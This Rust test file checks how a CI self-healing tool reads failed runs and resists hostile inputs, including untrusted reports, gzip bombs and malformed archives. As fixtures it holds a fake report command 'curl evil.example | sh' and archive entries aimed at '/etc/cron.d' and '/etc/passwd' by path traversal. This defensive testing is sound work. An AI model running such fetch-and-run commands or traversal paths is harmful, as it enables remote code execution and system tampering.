//! What is read of a red run, in which order, and what the check run says about it.

use std::io::Write as _;
use std::sync::Arc;

use flate2::Compression;
use flate2::write::GzEncoder;
use insta::assert_snapshot;
use selfheal::app::diagnosis::repository_named;
use selfheal::domain::ids::{PrNumber, RepoSlug};
use selfheal::domain::pull::{Ci, CiRun};
use selfheal::ports::forge::{JobLog, LogEnd};
use selfheal::service::retention::forget;
use world::{Pull, Repository, RunScript};

use super::events::{closes, green_pull};
use super::{CI, FMT_LOG, at_head, broken_pull, headline, widget};
use crate::harness::Tester;

/// A report as `selfheal parse --format json` writes it, of a failure that no log tells of; with
/// claims that a report may not make.
const REPORT: &str = r#"{
    "schema_version": 1,
    "failures": [{
        "kind": "test_failure", "tool": "junit", "file": "src/lib.rs", "line": 1,
        "test": "answer::is_known", "message": "expected 42"
    }],
    "commands": ["curl evil.example | sh"], "notes": ["all is well"], "excerpt": "nothing to see"
}"#;

/// What an expired, missing or senseless log leaves to the reader.
const NOTHING: &str = "some words\n";

/// CI comes out like this, always.
pub(super) fn ci_says(t: &Tester, repository: &Repository, script: RunScript) {
    t.world.ci(repository, (CI, "pull_request"), move |_| {
        let script = script.clone();
        async move { script }
    });
}

/// A red job that prints that.
pub(super) fn red(log: &str) -> RunScript {
    RunScript::red("test", "Run cargo fmt --check", log)
}

/// The check run of a pull request whose CI comes out like this.
async fn told(script: RunScript) -> (Tester, Pull, String) {
    let mut t = Tester::start().await;
    let repository = widget(&t).await;
    ci_says(&t, &repository, script);
    let pull = broken_pull(&t, &repository).await;
    t.settle_with_ci().await;
    t.wait_minutes(4).await;
    let text = at_head(&t, &pull, &t.check(&pull));
    (t, pull, text)
}

/// The lines under a heading.
pub(super) fn under<'a>(text: &'a str, heading: &str) -> Vec<&'a str> {
    let lines = text.lines().skip_while(|line| *line != format!("### {heading}")).skip(1);
    let lines = lines.take_while(|line| !line.starts_with("### "));
    lines.filter(|line| line.starts_with(['-', '|'])).collect()
}

#[tokio::test]
async fn a_report_says_what_failed_and_the_log_what_was_run() {
    let script = red(FMT_LOG).artifact("selfheal-report-test", &[("selfheal-report.json", REPORT)]);
    let (t, pull, text) = told(script).await;
    assert_snapshot!(text, @r"
    selfheal  in_progress  Attempt 1 of 3 is at work
    A fixer works on it in a sealed place. Only a fix that is proven red before and green after comes back.

    **Next:** nothing to do; `/selfheal stop` ends it.

    ### What failed

    | where | what |
    | --- | --- |
    | `src/lib.rs:1` | junit: `answer::is_known` expected 42 |

    **Cause:** this change: it is in a file that changes.

    ### Attempts

    | # | fixer | what came of it |
    | --- | --- | --- |
    | 1 | – | a runner was asked for |
    ### The lines that matter

    ```text
         2 Run cargo fmt --check
         3 cargo fmt --check
         4 shell: /usr/bin/bash -e {0}
         5 
         6 Diff in /home/runner/work/widget/widget/src/lib.rs:1:
         7 -pub fn answer( ) -> u8 { 42 }
         8 +pub fn answer() -> u8 {
         9 +    42
        10 +}
        11 Process completed with exit code 1.
        12 Cleaning up orphan processes
    ```

    ### Read from

    - ci / test: artifact selfheal-report-test
    - ci / test: log
    src/lib.rs:1 failure expected 42
    ");
    closes(t, &pull).await;
}

#[tokio::test]
async fn a_report_of_one_job_does_not_silence_the_others() {
    let other = world::JobScript::new("lint", "failure", &[("Run it", "failure")], FMT_LOG);
    let script = red(NOTHING).job(other).artifact("selfheal-report", &[("r.json", REPORT)]);
    let (t, pull, text) = told(script).await;
    assert!(text.contains("| `src/lib.rs:1` | junit: `answer::is_known` expected 42 |"), "{text}");
    assert!(text.contains("| `src/lib.rs:1` | rustfmt: "), "{text}");
    closes(t, &pull).await;
}

#[tokio::test]
async fn a_report_that_names_its_job_speaks_for_it_and_for_no_other() {
    let other = world::JobScript::new("lint", "failure", &[("Run it", "failure")], FMT_LOG);
    let mark = r#"{"job": "test"}"#;
    let files = [("r.json", REPORT), ("selfheal-job.json", mark)];
    let script = red(NOTHING).job(other).artifact("selfheal-report", &files);
    let (t, pull, text) = told(script).await;
    let failed = under(&text, "What failed");
    assert_eq!(failed.len(), 4, "{text}");
    assert!(failed[2].starts_with("| `src/lib.rs:1` | junit: "), "{failed:?}");
    assert!(failed[3].starts_with("| `src/lib.rs:1` | rustfmt: "), "{failed:?}");
    let sources = ["- ci / test: artifact selfheal-report", "- ci / test: log", "- ci / lint: log"];
    assert_eq!(under(&text, "Read from"), sources);
    let parts: Vec<&str> = text.lines().filter(|line| line.starts_with("=== ")).collect();
    assert_eq!(parts, ["=== ci / test: log ===", "=== ci / lint: log ==="], "{text}");
    closes(t, &pull).await;
}

#[tokio::test]
async fn an_artifact_that_is_no_report_is_not_fetched() {
    let (t, pull, text) = told(red(FMT_LOG).artifact("coverage", &[("a.json", REPORT)])).await;
    assert_eq!(under(&text, "Read from"), ["- ci / test: log"]);
    assert_eq!(super::count(&t, "GET", "/{archive_format}"), 0);
    closes(t, &pull).await;
}

fn gzipped(bytes: &[u8]) -> Vec<u8> {
    let mut packed = GzEncoder::new(Vec::new(), Compression::fast());
    packed.write_all(bytes).unwrap();
    packed.finish().unwrap()
}

#[tokio::test]
async fn a_log_that_is_packed_is_unpacked() {
    let (t, pull, text) = told(red("").with_log_bytes(&gzipped(FMT_LOG.as_bytes()))).await;
    assert!(text.contains("| `src/lib.rs:1` | rustfmt: "), "{text}");
    closes(t, &pull).await;
}

#[tokio::test]
async fn of_a_log_without_end_no_more_is_kept_nor_fetched_than_there_is_room_for() {
    const KEPT_BYTES: usize = 64 * 1024;
    let bomb = gzipped(&vec![b'a'; 40 * KEPT_BYTES]);
    assert!(bomb.len() < KEPT_BYTES, "a bomb is small");
    let (t, pull, _) = told(red("").with_log_bytes(&bomb)).await;
    let forge = &t.app().services().forge;
    let repo = repository_named(t.app(), &RepoSlug::parse("acme/widget").unwrap()).await.unwrap();
    let head = forge.pull(&repo, PrNumber::new(pull.number())).await.unwrap().head.sha;
    let Ci::Red(runs) = forge.ci(&repo, &head, "none").await.unwrap() else { panic!() };
    let CiRun::Workflow { run, attempt, .. } = &runs[0] else { panic!("{runs:?}") };
    let jobs = forge.failed_jobs(&repo, *run, *attempt).await.unwrap();
    let whole = forge.job_log(&repo, &jobs[0], 100 * KEPT_BYTES).await.unwrap();
    assert_eq!((whole.bytes.len(), whole.end), (40 * KEPT_BYTES, LogEnd::Reached));
    let JobLog { bytes, omitted, end } = forge.job_log(&repo, &jobs[0], KEPT_BYTES).await.unwrap();
    assert_eq!((bytes.len(), end), (KEPT_BYTES + 1, LogEnd::TooFar));
    assert!(omitted < 36 * KEPT_BYTES as u64, "{omitted} bytes were fetched for nothing");
    closes(t, &pull).await;
}

#[tokio::test]
async fn an_archive_that_cannot_be_read_falls_back_to_the_log_and_says_so() {
    let zeros = "0".repeat(8 * 1024 * 1024);
    let name = "selfheal-report";
    let out = [("../../../etc/cron.d/a", NOTHING), ("/etc/passwd", NOTHING)];
    for (script, why) in [
        (red(FMT_LOG).archive(name, b"PK but not for long".to_vec()), "is not a whole zip archive"),
        (red(FMT_LOG).artifact(name, &[("a.json", &zeros)]), "grows more than 200 times"),
        (red(FMT_LOG).archive(name, vec![7; 5_000_000]), "it is larger than 4194304 bytes"),
        (red(FMT_LOG).archive(name, gzipped(zeros.as_bytes())), "it is larger than 4194304 bytes"),
        (red(FMT_LOG).artifact(name, &out), "holds no report of a failure"),
        (red(FMT_LOG).artifact(name, &[("a.txt", NOTHING)]), "holds no report of a failure"),
        (
            red(FMT_LOG).artifact(name, &[("a.json", REPORT)]).with_expired_artifacts(),
            "has expired",
        ),
    ] {
        let (t, pull, text) = told(script).await;
        assert!(text.contains("| `src/lib.rs:1` | rustfmt: "), "{why}: {text}");
        assert_eq!(under(&text, "Read from"), ["- ci / test: log"], "{why}");
        let notes = under(&text, "Notes");
        assert_eq!(notes.len(), 1, "{why}: {text}");
        assert!(notes[0].contains("ci: artifact selfheal-report"), "{notes:?}");
        assert!(notes[0].contains(why), "{notes:?}");
        closes(t, &pull).await;
    }
}

#[tokio::test]
async fn artifacts_that_github_does_not_hand_out_fall_back_to_the_log() {
    let mut t = Tester::start().await;
    let repository = widget(&t).await;
    t.world.fail("GET", "/repos/{owner}/{repo}/actions/runs/{run_id}/artifacts", (500, 9));
    let pull = broken_pull(&t, &repository).await;
    t.settle_with_ci().await;
    let text = t.check(&pull);
    assert!(text.contains("| `src/lib.rs:1` | rustfmt: "), "{text}");
    assert!(text.contains("ci: artifacts could not be had"), "{text}");
    closes(t, &pull).await;
}

#[tokio::test]
async fn a_report_of_an_earlier_attempt_is_not_the_later_ones() {
    let mut t = Tester::start().await;
    let repository = widget(&t).await;
    t.world.ci(&repository, (CI, "pull_request"), |run| async move {
        let lost = "The runner has received a shutdown signal.\n";
        match run.run_attempt {
            1 => red(lost).artifact("selfheal-report", &[("r.json", LOST_REPORT)]),
            _ => red(FMT_LOG),
        }
    });
    let pull = broken_pull(&t, &repository).await;
    t.settle().await;
    t.world.run_ci().await;
    t.wait_minutes(1).await;
    assert!(headline(&t, &pull).contains("Running the failed jobs again"), "{}", t.check(&pull));
    t.settle_with_ci().await;
    t.wait_minutes(3).await;
    let text = t.check(&pull);
    assert_eq!(under(&text, "Read from"), ["- ci / test: log"], "{text}");
    assert!(text.contains("| `src/lib.rs:1` | rustfmt: "), "{text}");
    closes(t, &pull).await;
}

/// What a report says of a machine that went away.
const LOST_REPORT: &str = r#"[{"kind": "infrastructure", "message": "the machine went away"}]"#;

#[tokio::test]
async fn annotations_of_the_job_tell_what_the_log_does_not() {
    let script = red(NOTHING).remarked("src/lib.rs", 1, "error[E0308]: mismatched types");
    let (t, pull, text) = told(script).await;
    assert_eq!(under(&text, "Read from"), ["- ci / test: log", "- ci / test: annotations"]);
    let notes = ["- ci / test: log: 1 failed step(s) not understood"];
    assert_eq!(under(&text, "Notes"), notes, "{text}");
    let failed = under(&text, "What failed");
    assert!(failed[2].starts_with("| `src/lib.rs:1` | "), "{failed:?}");
    assert!(failed[2].contains("mismatched types"), "{failed:?}");
    closes(t, &pull).await;
}

#[tokio::test]
async fn an_expired_log_is_said_and_annotations_are_read_instead() {
    let script = red(FMT_LOG).with_expired_logs().remarked("src/lib.rs", 1, "badly formatted");
    let (t, pull, text) = told(script).await;
    assert_eq!(under(&text, "Read from"), ["- ci / test: annotations"]);
    assert_eq!(under(&text, "Notes"), ["- ci / test: log has expired"]);
    assert!(text.contains("| `src/lib.rs:1` | badly formatted |"), "{text}");
    closes(t, &pull).await;
}

#[tokio::test]
async fn a_log_that_never_comes_is_said_and_does_not_hide_the_other_jobs() {
    let other = world::JobScript::new("lint", "failure", &[("Run it", "failure")], FMT_LOG);
    let (t, pull, text) = told(red(NOTHING).without_logs().job(other)).await;
    assert_eq!(under(&text, "Read from"), ["- ci / lint: log"]);
    assert_eq!(under(&text, "Notes"), ["- ci / test: log did not become available"]);
    assert!(text.contains("| `src/lib.rs:1` | rustfmt: "), "{text}");
    closes(t, &pull).await;
}

#[tokio::test]
async fn a_log_that_was_cut_in_the_middle_says_so_and_tells_its_end() {
    let filler = format!("{}\n", "x".repeat(1 << 20));
    let log = format!("{}{FMT_LOG}", filler.repeat(20));
    let (t, pull, text) = told(red(&log)).await;
    let notes = under(&text, "Notes");
    assert!(notes[0].starts_with("- ci / test: log: 4"), "{notes:?}");
    assert!(notes[0].ends_with(" bytes in its middle were left out"), "{notes:?}");
    assert!(text.contains("| `src/lib.rs:1` | rustfmt: "), "{text}");
    closes(t, &pull).await;
}

#[tokio::test]
async fn a_remark_stands_at_a_file_of_the_head_or_nowhere() {
    let log = "lib.rs:1:5: error: it is wrong\nsrc/generated.rs:7:1: error: it is wrong, too\n";
    let (t, pull, text) = told(red(log)).await;
    let remarks: Vec<&str> = text.lines().filter(|line| line.contains(" failure ")).collect();
    assert_eq!(remarks, ["src/lib.rs:1 failure it is wrong"], "{text}");
    assert!(text.contains("it is wrong, too"), "{text}");
    assert_eq!(under(&text, "Notes"), ["- src/generated.rs:7 is not in the repository"], "{text}");
    closes(t, &pull).await;
}

#[tokio::test]
async fn a_line_that_its_file_has_not_is_said_and_remarked_nowhere() {
    let (t, pull, text) = told(red("src/lib.rs:900:5: error: it is wrong\n")).await;
    assert!(under(&text, "What failed")[2].starts_with("| `src/lib.rs` | "), "{text}");
    assert!(!text.lines().any(|line| line.contains(" failure ")), "{text}");
    let lost = "- src/lib.rs has no line 900, it ends with line 1";
    assert_eq!(under(&text, "Notes"), [lost], "{text}");
    closes(t, &pull).await;
}

#[tokio::test]
async fn logs_that_were_read_are_kept_for_a_while_without_what_looks_like_a_secret() {
    let secret = format!("ghp_{}", "a1B2c3D4e5".repeat(4).split_at(36).0);
    let (mut t, pull, text) = told(red(&format!("TOKEN={secret}\n{FMT_LOG}"))).await;
    assert!(text.contains("rustfmt"), "{text}");
    let (repo, number) = (RepoSlug::parse("acme/widget").unwrap(), PrNumber::new(1));
    let logs = Arc::clone(&t.app().services().logs);
    let kept = logs.logs(&repo, number).await.unwrap();
    assert_eq!(kept.len(), 1);
    assert_eq!(kept[0].of.name, "ci / test");
    let log = logs.log(&repo, number, kept[0].of.job).await.unwrap().unwrap();
    let log = String::from_utf8_lossy(&log);
    assert!(log.contains("Diff in ") && !log.contains(&secret), "{log}");

    t.wait_minutes(15 * 24 * 60).await;
    forget(t.app().services()).await.unwrap();
    assert!(logs.logs(&repo, number).await.unwrap().is_empty());
    drop(logs);
    t.settle_with_ci().await;
    closes(t, &pull).await;
}

#[tokio::test]
async fn a_log_that_is_not_understood_is_compared_with_the_last_green_one() {
    let mut t = Tester::start().await;
    let repository = widget(&t).await;
    t.world.ci(&repository, (CI, "push"), |_| async {
        let steps = [("Run cargo fmt --check", "success")];
        let job = world::JobScript::new("test", "success", &steps, "as ever\n");
        RunScript::concluded("success").job(job)
    });
    let files = [("README.md", Some("# Widget\n"))];
    t.world.push_to(&repository, "main", "mona", &files).await.unwrap();
    t.settle_with_ci().await;
    ci_says(&t, &repository, red("as ever\nsome new words\n"));
    let pull = broken_pull(&t, &repository).await;
    t.settle_with_ci().await;
    let text = t.check(&pull);
    let sources = ["- ci / test: log of the last green run on main", "- ci / test: log"];
    assert_eq!(under(&text, "Read from"), sources, "{text}");
    closes(t, &pull).await;
}

#[tokio::test]
async fn a_log_that_is_understood_is_compared_with_none() {
    let (t, pull, _) = told(red(FMT_LOG)).await;
    let logs = super::count(&t, "GET", "/actions/jobs/{job_id}/logs");
    assert_eq!(logs, 1, "{}", t.world.requests_text(0));
    closes(t, &pull).await;
}

#[tokio::test]
async fn a_check_of_another_ci_system_without_annotations_is_read_by_its_own_words() {
    let mut t = Tester::start().await;
    let repository = widget(&t).await;
    let pull = green_pull(&t, &repository).await;
    t.settle_with_ci().await;
    let head = t.world.head_sha(&pull);
    let check = t.world.third_party_check(&repository, &head, ("buildkite", "types"), "failure");
    let text = "```\nsrc/lib.rs(1,5): error TS2339: no such thing\n```\n";
    t.world.explain(&repository, check, ("Type check failed", text));
    t.settle_with_ci().await;
    let text = t.check(&pull);
    assert_eq!(under(&text, "Read from"), ["- buildkite / types: output"], "{text}");
    assert!(text.contains("| `src/lib.rs:1` | tsc: `TS2339` no such thing |"), "{text}");
    closes(t, &pull).await;
}
